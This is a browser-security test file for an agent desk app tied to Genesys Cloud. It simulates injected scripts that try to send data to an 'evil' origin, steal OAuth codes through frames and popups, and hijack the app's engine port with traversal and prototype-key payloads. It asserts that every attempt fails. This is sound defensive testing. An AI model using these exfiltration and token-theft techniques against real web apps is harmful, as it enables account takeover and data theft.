import { readdirSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { ownFlow, test, tryWaysOut } from './attacks'
import { button, expect, expectDesk, goOnQueue, takeCall, trips } from './desk'

const dist = fileURLToPath(new URL('../../dist', import.meta.url))
const scripts = readdirSync(dist, { recursive: true, encoding: 'utf8' }).filter((name) =>
  name.endsWith('.js'),
)

test('an injected script can send nothing anywhere, by whatever way', async ({ ana, evil }) => {
  const thrown = await tryWaysOut(ana, evil.origin)
  expect(thrown).toEqual(
    expect.arrayContaining(['fetch', 'script', 'worker of a blob', 'HTML made of text']),
  )
  // The server is there; nobody has come before.
  await fetch(`${evil.origin}/last`)
  expect(evil.seen).toEqual(['GET /last'])
})

test('an injected script starts no worker, be it of our own files', async ({ ana }) => {
  const refused = await ana.evaluate((names) => {
    const start = [Worker, SharedWorker].flatMap((kind) =>
      names.map((name) => () => new kind(`./${name}`, { type: 'module' })),
    )
    return start.map((one) => {
      try {
        one()
        return 'started'
      } catch (error) {
        return String(error)
      }
    })
  }, scripts)
  expect(refused).toHaveLength(2 * scripts.length)
  for (const one of refused) expect(one).toMatch(/requires 'TrustedScriptURL'/)
})

test.describe('in a browser whose pages know no policy', () => {
  test.use({ bypassCSP: true })

  test('every script of ours that is started as a worker reaches nothing', async ({
    page,
    host,
    evil,
  }) => {
    await page.goto(host.url)
    for (const name of scripts) {
      const [worker] = await Promise.all([
        page.waitForEvent('worker'),
        page.evaluate((file) => {
          // Most are no scripts for a worker, and end at once; what is injected would be one.
          new Worker(`./${file}`).onerror = (event) => event.preventDefault()
        }, name),
      ])
      const answer = await worker.evaluate(
        (url) => fetch(url, { mode: 'no-cors' }).then(() => 'sent', String),
        `${evil.origin}/${name}`,
      )
      expect([name, answer]).toEqual([name, 'TypeError: Failed to fetch'])
    }
    expect(evil.seen).toEqual([])
  })
})

test('an injected script gets no code by a frame of its own', async ({ ana, host, genesys }) => {
  const before = await trips(genesys)
  const url = ownFlow(genesys.login, `${host.url}callback.html`)
  const read = await ana.evaluate(
    (src) =>
      new Promise<string>((resolve) => {
        const frame = document.createElement('iframe')
        frame.onload = () => {
          try {
            resolve(String(frame.contentWindow?.location.href))
          } catch (error) {
            resolve(error instanceof DOMException ? error.name : 'other')
          }
        }
        frame.src = src
        document.body.append(frame)
      }),
    url,
  )
  expect(read).toBe('SecurityError')
  expect(await trips(genesys)).toEqual(before)
})

for (const [what, first] of [
  ['a popup', (url: string) => url],
  ['an empty popup that it sends there', () => ''],
] as const)
  test(`an injected script gets no code by ${what}`, async ({ ana, context, host, genesys }) => {
    const before = await trips(genesys)
    const url = ownFlow(genesys.login, `${host.url}callback.html`)
    const [popup] = await Promise.all([
      context.waitForEvent('page'),
      ana.evaluate(
        ([start = '', next = '']) => {
          const opened = window.open(start)
          if (opened && !start) opened.location.href = next
          const read: string[] = []
          const look = () => {
            try {
              read.push(opened?.closed ? 'closed' : String(opened?.location.href))
            } catch (error) {
              read.push(String(error))
            }
          }
          setInterval(look, 1)
          Object.assign(window, { read })
        },
        [first(url), url],
      ),
    ])
    // The login host knows the agent and asks nothing: the code came, and went nowhere.
    await popup.waitForURL(/index\.html/)
    await expectDesk(popup)
    expect(await trips(genesys)).toEqual({ ...before, authorize: before.authorize + 1 })
    const read = await ana.evaluate(() => Reflect.get(window, 'read') as string[])
    expect(read.at(-1)).toBe('closed')
    expect(read.join()).not.toMatch(/code=|callback/)
  })

test('an injected script that talks to the engine itself brings it to no foreign host', async ({
  ana,
  host,
  genesys,
  evil,
}) => {
  await goOnQueue(ana)
  await takeCall(ana, genesys, 'Ada Quill')
  const [, before] = [await genesys.control('DELETE', '/requests'), await trips(genesys)]
  const answers = await ana.evaluate(
    async ([to = '', folder = '']) => {
      // The next word of the desk to its engine shows the way.
      const port = await new Promise<MessagePort>((resolve) => {
        const { postMessage } = MessagePort.prototype
        MessagePort.prototype.postMessage = function (this: MessagePort, ...sent: [unknown]) {
          resolve(this)
          return postMessage.apply(this, sent)
        }
      })
      const heard: unknown[] = []
      port.addEventListener('message', ({ data }) => heard.push(data))
      const hosts = { api: to, host: to, baseUrl: to, url: `${to}/api/v2/users/me` }
      const config = { environment: { login: to, api: to }, clientId: 'x', redirectUris: [to] }
      const asks = [
        { operation: `${to}/api/v2/users/me` },
        { operation: `//${to.slice(7)}` },
        { operation: 'getMe', params: hosts, ...hosts },
        { operation: 'getMe', params: {}, body: hosts },
        { operation: '__proto__', params: hosts },
        { operation: 'constructor', params: hosts },
        { operation: 'getConversation', params: { conversationId: `../../../..//${to}` } },
        { operation: 'getConversation', params: { conversationId: `@${to.slice(7)}/` } },
      ]
      const words = [
        ...asks.map((ask) => ({ kind: 'ask', params: {}, ...ask })),
        ...['config', 'configure', 'init', 'hello'].map((kind) => ({
          kind,
          folder: `${to}/`,
          config,
        })),
        { kind: 'begin', returnTo: `${to}/` },
        { kind: 'listen', userId: `${to}/` },
        { kind: 'finish', answer: `code=x&iss=${to}`, transaction: null },
      ]
      for (const [index, word] of words.entries())
        port.postMessage({ ...word, id: 1_000_000 + index })
      // Its own page it can spoil: this one is told again where it is.
      port.postMessage({ kind: 'hello', folder, id: 1_999_999 })
      port.postMessage({ kind: 'ping', id: 2_000_000 })
      await new Promise<void>((resolve) => {
        port.addEventListener('message', ({ data }) => data?.id === 2_000_000 && resolve())
      })
      return JSON.stringify(heard)
    },
    [evil.origin, host.url],
  )
  expect(evil.seen).toEqual([])
  expect(answers).not.toMatch(/Bearer|access_token/)
  expect(await trips(genesys)).toEqual(before)
  await expect(button(ana, 'Hold')).toBeVisible()
})

test('a page elsewhere shows no page of the desk in a frame, and has no hold on one it opens', async ({
  page,
  context,
  host,
  genesys,
  evil,
}) => {
  await page.goto(evil.origin)
  for (const name of ['', 'index.html', 'callback.html?code=x', 'embed.html', 'popup.html']) {
    await page.evaluate((src) => {
      const frame = document.createElement('iframe')
      frame.src = src
      document.body.replaceChildren(frame)
      return new Promise((resolve) => {
        frame.onload = resolve
      })
    }, host.url + name)
    const shown = () => page.frames()[1]?.url()
    await expect.poll(shown, name).toBe('chrome-error://chromewebdata/')
  }
  const [desk] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((url) => void Object.assign(window, { desk: window.open(url) }), host.url),
  ])
  await expect(button(desk, 'Log in with Genesys Cloud')).toBeVisible()
  expect(await page.evaluate(() => Reflect.get(window, 'desk').closed)).toBe(true)
  expect(await desk.evaluate(() => window.opener)).toBeNull()
  expect(await genesys.requests()).toEqual([])
})
